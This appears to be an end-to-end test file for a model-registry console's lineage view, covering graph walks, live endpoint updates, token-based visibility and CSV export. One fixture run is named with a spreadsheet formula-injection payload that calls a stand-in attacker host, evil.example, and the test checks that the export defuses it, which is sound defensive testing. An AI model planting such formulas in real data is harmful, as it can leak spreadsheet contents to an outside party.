import { readFileSync } from "node:fs";
import { beforeAll, expect, test } from "vitest";
import { useConsole } from "./console-browser.js";
import { logRun, makeTrackedRegistry, reportDeployment } from "./tracked-registry.js";

const web = useConsole();
const quoted = (cells: string) =>
  cells
    .split(",")
    .map((cell) => `"${cell}"`)
    .join(",");
const FORMULA = '=HYPERLINK("https://evil.example/"&A1)';

beforeAll(async () => {
  await makeTrackedRegistry(web.send);
  await logRun(web.send, { runId: "run-3", name: FORMULA, depth: 2, losses: [1] });
});

test("from a dataset down to the endpoints that it reached, with counts and as a file", async () => {
  const { page } = await web.signIn({ subject: "ada" }, "/lineage");
  await page.getByRole("link", { name: "payments" }).click();
  const counts = page.getByRole("list", { name: "How many were reached" });
  await counts.getByText("3 runs").waitFor();
  expect(await counts.textContent()).toBe("3 runs2 versions3 endpoints1 in PRODUCTION");
  await page.getByRole("row", { name: /canary\/scorer/ }).waitFor();
  await page.getByRole("button", { name: "endpoints" }).click();
  expect(await page.getByRole("region", { name: "Reached" }).getByRole("row").count()).toBe(4);
  expect(new URL(page.url()).searchParams.get("kind")).toBe("DEPLOYMENT");

  const [download] = await Promise.all([
    page.waitForEvent("download"),
    page.getByRole("button", { name: "Export as CSV" }).click(),
  ]);
  await page.getByText("9 rows: all of it.").waitFor();
  expect(download.suggestedFilename()).toBe("lineage-payments-2026-06.csv");
  const lines = readFileSync(await download.path(), "utf8")
    .trimEnd()
    .split("\r\n");
  expect(lines).toHaveLength(10);
  expect(lines[0]).toBe(quoted("kind,name,steps,stage,environment,running,health,state,drifted,stale,id"));
  // a spreadsheet must not execute what somebody wrote
  expect(lines.find((line) => line.includes("HYPERLINK"))).toContain(
    `"RUN","'=HYPERLINK(""https://evil.example/""&A1)",1`,
  );
  expect(lines.find((line) => line.includes("prod-us/scorer"))).toContain(
    `"DEPLOYMENT","prod-us/scorer",3,${quoted(",prod-us,v1,DEGRADED,RUNNING,true,false")},`,
  );
  await page.context().close();
});

test("the walk goes on from any node, in both directions, and new endpoints arrive live", async () => {
  const { page } = await web.signIn({ subject: "ada" }, "/lineage");
  await page.getByRole("link", { name: "payments" }).click();
  await page.getByRole("link", { name: "From here: fraud v1" }).click();
  await page.getByRole("heading", { name: "fraud v1" }).waitFor();
  expect(new URL(page.url()).searchParams.get("direction")).toBe("BOTH");
  await page.getByRole("button", { name: "What it was made from" }).click();
  const counts = page.getByRole("list", { name: "How many were reached" });
  await expect.poll(() => counts.textContent()).toBe("1 dataset1 run");
  await page.getByLabel("Steps").selectOption("1");
  await expect.poll(() => counts.textContent()).toBe("1 run");
  await page.getByRole("button", { name: "Go on: there is more beyond 1 steps" }).click();
  await expect.poll(() => counts.textContent()).toBe("1 dataset1 run");

  await page.getByRole("button", { name: "What it reached" }).click();
  await expect.poll(() => counts.textContent()).toBe("2 endpoints");
  await page.getByText("Live", { exact: true }).waitFor();
  await reportDeployment(web.send, "prod-asia", { running: [{ version: { number: { model: "fraud", number: 1 } } }] });
  await expect.poll(() => counts.textContent()).toBe("3 endpoints");
  await page.context().close();
});

test("the picture of a version leads to all of its lineage", async () => {
  const { page } = await web.signIn({ subject: "ada" }, "/models/fraud/versions/2");
  await page.getByRole("region", { name: "Lineage" }).getByRole("link", { name: "All of it" }).click();
  await page.getByRole("heading", { name: "fraud v2" }).waitFor();
  await page.context().close();
});

test("what a token does not show is neither listed nor walked from", async () => {
  const eve = { subject: "eve", models: ["other*"] };
  const { page } = await web.signIn(eve, "/lineage");
  await page.getByText("No dataset yet").waitFor();
  await page.context().close();
});
